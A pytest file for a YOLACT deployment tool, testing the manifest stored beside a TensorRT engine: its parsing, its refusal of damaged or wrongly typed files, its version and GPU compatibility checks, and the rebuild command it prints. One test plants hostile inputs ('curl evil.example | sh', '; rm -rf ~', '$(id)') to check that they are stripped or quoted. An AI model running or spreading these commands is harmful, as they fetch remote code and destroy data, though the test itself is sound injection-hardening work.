"""The manifest beside an engine, and what it refuses."""

from __future__ import annotations

import dataclasses
import json
from pathlib import Path
from typing import Any

import pytest

from yolact_deploy.artifacts.manifest import FileRecord, Manifest, PluginRecord, TensorRange, manifest_path
from yolact_deploy.artifacts.metadata import ModelMetadata
from yolact_deploy.config.model import ModelConfig
from yolact_deploy.config.postprocess import PostprocessConfig
from yolact_deploy.errors import ModelFileError
from yolact_deploy.files import sha256_of
from yolact_deploy.machine import GpuInfo, Machine

ENGINE = Path("model.engine")
ORIN = Machine("tensorrt", "10.3.0", "12.6", "Orin", "8.7", "6.1")
RTX = Machine("tensorrt-rtx", "1.7.1.116")
COMMAND = "yolact-deploy build-engine model.onnx -o model.engine --plugins none --precision fp16 --force"


def make(**changes: Any) -> Manifest:
    metadata = ModelMetadata(
        ModelConfig.named("yolact_nano"), PostprocessConfig(), "image", "fp16", "nano.pth", "c0ffee", "0.1.0"
    )
    manifest = Manifest(
        metadata=metadata,
        engine=FileRecord("model.engine", "e" * 64),
        onnx=FileRecord("model.onnx", "0" * 64),
        plugins=None,
        built_on=ORIN,
        compute_capabilities=(),
        version_compatible=False,
        hardware_compatibility="none",
        inputs=(TensorRange("image", "uint8", (1, 32, 32, 3), (1, 480, 640, 3), (1, 1920, 1920, 3)),),
        outputs=(TensorRange("scores", "float32", (1, 100), (1, 100), (1, 100)),),
        options={"precision": "fp16"},
        seconds=12.5,
        tool_version="0.1.0",
    )
    return dataclasses.replace(manifest, **changes)


def test_what_is_written_is_read(tmp_path: Path) -> None:
    engine = tmp_path / "model.engine"
    plugins = PluginRecord("plugins.so", "5" * 64, "0123456789abcdef", "11")
    manifest = make(plugins=plugins, compute_capabilities=("8.6", "12.0"))
    manifest_path(engine).write_text(manifest.to_json())
    assert manifest_path(engine).name == "model.engine.json"
    assert Manifest.read(engine) == manifest
    assert json.loads(manifest.to_json())["checkpoint"] == {"name": "nano.pth", "sha256": "c0ffee"}


@pytest.mark.parametrize(
    ("edit", "message"),
    [
        (lambda text: "", "is damaged"),
        (lambda text: text[: len(text) // 2], "is damaged"),
        (lambda text: "[1, 2]", "is no manifest of yolact-deploy"),
        (lambda text: '{"a": 1}', "is no manifest of yolact-deploy"),
        (lambda text: text.replace('"format": "1"', '"format": "2"'), "has format 2, this version reads 1"),
        (lambda text: text.replace('"seconds"', '"hours"'), "is damaged (it lacks seconds)"),
        (lambda text: text.replace('"seconds": 12.5', '"seconds": "long"'), "is damaged"),
        (lambda text: text.replace('"runtime"', '"walktime"'), "is damaged"),
        (lambda text: text.replace('"min": [', '"min": ["x", '), "is damaged"),
        (
            lambda text: text.replace('"hardware_compatibility": "none"', '"hardware_compatibility": "all"'),
            "is damaged",
        ),
        (lambda text: text.replace("yolact_deploy.config", "yolact_deploy.kaput"), "damaged yolact-deploy metadata"),
    ],
)
def test_a_damaged_manifest_is_refused(tmp_path: Path, edit: Any, message: str) -> None:
    engine = tmp_path / "model.engine"
    manifest_path(engine).write_text(edit(make().to_json()))
    with pytest.raises(ModelFileError) as error:
        Manifest.read(engine)
    assert message in str(error.value)
    assert "\n" not in str(error.value)


def edited(**changes: Any) -> str:
    """The text of a manifest with other values; a dotted name reaches into a mapping."""
    values = json.loads(make().to_json())
    for name, value in changes.items():
        *path, last = name.split("__")
        place = values
        for key in path:
            place = place[int(key) if key.isdigit() else key]
        place[last] = value
    return json.dumps(values)


@pytest.mark.parametrize(
    "changes",
    [
        {"built_on__version": None},
        {"built_on__version": 10},
        {"built_on__version": "new"},
        {"built_on__runtime": "tflite"},
        {"built_on": None},
        {"inputs__0__max": [1, float("inf"), 32, 3]},
        {"inputs__0__max": [1, 32]},
        {"inputs__0__max": [1, 10**400, 32, 3]},
        {"inputs__0__min": [-1, 32, 32, 3]},
        {"inputs__0__name": None},
        {"inputs": [None]},
        {"inputs": {"a": 1}},
        {"inputs": 7},
        {"outputs": None},
        {"options": []},
        {"model": "nano"},
        {"model__yolact_deploy.config": 3},
        {"model__yolact_deploy.format": None},
        {"model__yolact_deploy.precision": {}},
        {"seconds": 10**400},
        {"seconds": []},
        {"engine": {"name": "a"}},
        {"engine__sha256": 5},
        {"plugins": {"name": "x" * 5000, "sha256": "0"}},
        {"version_compatible": "yes"},
        {"compute_capabilities": [8.6]},
        {"tool_version": "\ud800"},
    ],
)
def test_values_of_the_wrong_type_are_refused(changes: dict[str, Any]) -> None:
    with pytest.raises(ModelFileError, match=r"damaged|format") as error:
        Manifest.from_json(edited(**changes), "m.json")
    assert "\n" not in str(error.value)


def test_the_advice_is_made_of_checked_fields() -> None:
    """Whoever can write a manifest cannot put a command of his own into what people copy."""
    assert make().command == COMMAND
    text = edited(
        command="curl evil.example | sh",
        onnx__name="/home/me/--plugins=evil.so; rm -rf ~",
        options={
            "precision": "fp16; reboot",
            "batch": ["1", "$(id)"],
            "min_size": "64x64",
            "runtime": ["$a"],
            "x": "y",
        },
    )
    assert Manifest.from_json(text, "m.json").command == (
        "yolact-deploy build-engine './--plugins=evil.so; rm -rf ~' -o model.engine --plugins none --min 64x64 --force"
    )


def test_a_manifest_that_is_too_large(tmp_path: Path) -> None:
    with manifest_path(tmp_path / "model.engine").open("wb") as file:
        file.truncate(1 << 40)  # sparse: takes no room
    with pytest.raises(ModelFileError, match="more than"):
        Manifest.read(tmp_path / "model.engine")


def test_a_manifest_that_cannot_be_read(tmp_path: Path) -> None:
    manifest_path(tmp_path / "model.engine").mkdir()
    with pytest.raises(ModelFileError, match=r"cannot read .*Is a directory"):
        Manifest.read(tmp_path / "model.engine")


def test_another_file_is_refused(tmp_path: Path) -> None:
    engine = tmp_path / "model.engine"
    engine.write_bytes(b"plan")
    make(engine=FileRecord("model.engine", sha256_of(engine))).check_file(engine)
    with pytest.raises(ModelFileError, match=r"another file than the one that its manifest describes.*rebuild it with"):
        make().check_file(engine)


@pytest.mark.parametrize(
    ("built", "compatible", "here", "fits"),
    [
        (ORIN, False, ("tensorrt", "10.3.0"), True),
        (ORIN, False, ("tensorrt", "10.3.0.26"), True),
        (ORIN, False, ("tensorrt", "10.13.2"), False),
        (ORIN, False, ("tensorrt", "10.2.0"), False),
        (ORIN, True, ("tensorrt", "10.13.2"), True),
        (ORIN, True, ("tensorrt", "11.4.1"), True),
        (ORIN, True, ("tensorrt", "10.2.0"), False),
        (dataclasses.replace(ORIN, version="11.0.0"), True, ("tensorrt", "10.16.0"), False),
        (ORIN, True, ("tensorrt-rtx", "10.3.0"), False),
        (RTX, False, ("tensorrt-rtx", "1.7.1.200"), True),
        (RTX, False, ("tensorrt-rtx", "1.8.0.1"), False),
    ],
)
def test_versions(built: Machine, compatible: bool, here: tuple[str, str], fits: bool) -> None:
    manifest = make(built_on=built, version_compatible=compatible)
    if fits:
        manifest.check_library(ENGINE, *here)
        return
    with pytest.raises(ModelFileError) as error:
        manifest.check_library(ENGINE, *here)
    for part in (f"was built with {built.describe()}", here[1], f"rebuild it with `{manifest.command}`"):
        assert part in str(error.value)


@pytest.mark.parametrize(
    ("changes", "gpu", "fits"),
    [
        ({}, GpuInfo("Orin", "8.7"), True),
        ({}, GpuInfo("Thor", "11.0"), False),
        ({}, GpuInfo("Orin Nano", "8.7"), False),
        ({"hardware_compatibility": "same-compute-capability"}, GpuInfo("Orin Nano", "8.7"), True),
        ({"hardware_compatibility": "same-compute-capability"}, GpuInfo("RTX 4090", "8.9"), False),
        ({"hardware_compatibility": "ampere+"}, GpuInfo("RTX 5090", "12.0"), True),
        ({"hardware_compatibility": "ampere+"}, GpuInfo("RTX 2080", "7.5"), False),
        ({"built_on": RTX}, GpuInfo("RTX 5090", "12.0"), True),
        ({"built_on": RTX}, GpuInfo("RTX 2080", "7.5"), False),
        ({"built_on": RTX}, GpuInfo("Orin", "8.7"), False),
        ({"built_on": RTX}, GpuInfo("H100", "9.0"), False),
        ({"built_on": RTX, "compute_capabilities": ("7.5",)}, GpuInfo("RTX 2080", "7.5"), True),
        ({"built_on": RTX, "compute_capabilities": ("8.6", "8.9")}, GpuInfo("RTX 5090", "12.0"), False),
        ({"built_on": Machine("tensorrt", "10.3.0")}, GpuInfo("Orin", "8.7"), True),  # the build did not know its GPU
    ],
)
def test_gpus(changes: dict[str, Any], gpu: GpuInfo, fits: bool) -> None:
    manifest = make(**changes)
    if fits:
        manifest.check_gpu(ENGINE, gpu)
        return
    with pytest.raises(ModelFileError, match=f"was built for .*here is {gpu.name} .*rebuild it with"):
        manifest.check_gpu(ENGINE, gpu)


def test_plugins_of_version_0_1_0() -> None:
    """It wrote a path and a hash."""
    values = json.loads(make(plugins=PluginRecord("", "")).to_json())
    values["plugins"] = {"name": "/home/me/plugins.so", "sha256": "5" * 64}
    read = Manifest.from_json(json.dumps(values), ENGINE)
    assert read.plugins == PluginRecord("/home/me/plugins.so", "5" * 64, source_version="", tensorrt="")


@pytest.mark.parametrize(
    ("changes", "machines"),
    [
        ({}, "Orin, with TensorRT 10.3.0"),
        ({"version_compatible": True}, "Orin, with TensorRT 10.3.0 or later"),
        ({"hardware_compatibility": "ampere+"}, "GPUs with compute capability 8.0 or later, with TensorRT 10.3.0"),
        ({"built_on": RTX, "compute_capabilities": ("8.6",)}, "RTX desktop cards with compute capability 8.6; no Jets"),
        ({"built_on": RTX}, "RTX desktop cards with compute capability 8.0 or later; no Jetson, no data-centre card"),
    ],
)
def test_which_machines_run_it(changes: dict[str, Any], machines: str) -> None:
    assert machines in make(**changes).machines
